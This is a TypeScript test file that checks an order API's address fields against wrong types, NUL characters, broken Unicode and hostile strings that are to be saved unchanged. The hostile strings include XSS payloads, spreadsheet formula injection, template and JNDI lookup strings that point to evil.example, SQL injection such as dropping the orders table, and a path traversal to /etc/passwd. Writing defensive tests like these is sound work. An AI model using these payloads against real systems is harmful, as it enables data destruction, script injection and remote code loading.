/*
 * Addresses as JSON. The database tests hold which values are valid (support/address-cases.ts); here
 * are other types than text, texts that JSON or Postgres cannot hold, and hostile text.
 */
import { expect } from 'vitest'
import { type AttackCase, attacks, enforcedBy } from '../attack-case.ts'
import { expectError } from '../expectations.ts'
import { acceptedOrder, place, refusedOrders, withAddress, withText } from '../place-order.ts'

const FIELDS = ['fullName', 'address', 'city', 'state', 'postalCode', 'country', 'phone']

/** Saved and returned unchanged. */
const HOSTILE_TEXTS: Record<string, string[]> = {
  A82: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>'],
  A83: [
    '"><svg onload=alert(1)>',
    "'-alert(1)-'",
    '</textarea><script>alert(1)</script>',
    'javascript:alert(1)',
  ],
  A84: ['=1+1', '=HYPERLINK("https://evil.example","x")', '@SUM(A1:A9)', '+92', '-2+3'],
  A85: ['{{7*7}}', `\${7*7}`, '%s%n%x', '<%= 1 %>', '#{7*7}', `\${jndi:ldap://evil.example/a}`],
  A86: [
    "'; drop table public.orders; --",
    "' or '1'='1",
    '$$; select 1; $$',
    '\\u202e \\n \\" \\x00',
    '../../etc/passwd',
    'null',
    '🌿🧴 عائشہ خان',
  ],
}

export const addressCases: AttackCase[] = [
  ...FIELDS.flatMap((field) =>
    refusedOrders(
      `A68 A69 ${field} of another type is refused`,
      [undefined, null, { a: 1 }, ['x'], 5, true],
      (value) => withAddress({ [field]: value }),
      422,
      'required',
      field,
    ),
  ),
  ...enforcedBy('PostgREST', [
    ...attacks(
      'A77 a NUL character is refused',
      ['Ayesha', '03', 'Lahore', 'total', 'quantity', 'cash_on_delivery'],
      async (api, text) => {
        expectError(await place(api, withText(text, `${text}\\u0000`)), 400, '22P05')
      },
    ),
    ...attacks(
      'A78 half of a surrogate pair is refused',
      ['\\ud800', '\\udc00', '\\ud83c', '\\udf3f\\ud83c'],
      async (api, half) => {
        expect((await place(api, withText('Ayesha', `Ay${half}esha`))).status).toBe(400)
      },
    ),
  ]),
  ...enforcedBy(
    'none',
    Object.entries(HOSTILE_TEXTS).flatMap(([label, texts]) =>
      texts.map((text) =>
        acceptedOrder(
          `${label} ${text} is saved unchanged`,
          withAddress({ fullName: text, address: text }),
          ({ shippingAddress }) =>
            expect(shippingAddress).toMatchObject({ fullName: text, address: text }),
        ),
      ),
    ),
  ),
]
